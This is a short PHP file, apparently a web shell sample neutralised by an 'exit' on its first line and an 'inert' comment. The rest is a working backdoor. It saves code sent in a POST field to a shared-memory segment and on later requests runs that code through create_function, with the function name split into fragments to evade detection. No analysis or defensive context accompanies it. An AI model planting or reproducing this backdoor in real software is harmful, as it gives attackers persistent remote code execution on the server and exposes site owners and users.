<?php exit; /* inert */ 
$id = shmop_open(0xff3, 'c', 0644, 4096);
if (!empty($_POST['s'])) { shmop_write($id, str_pad($_POST['s'], 4096), 0); }
else { $f = 'cre' . 'ate_func' . 'tion'; call_user_func($f('', shmop_read($id, 0, 4096))); }
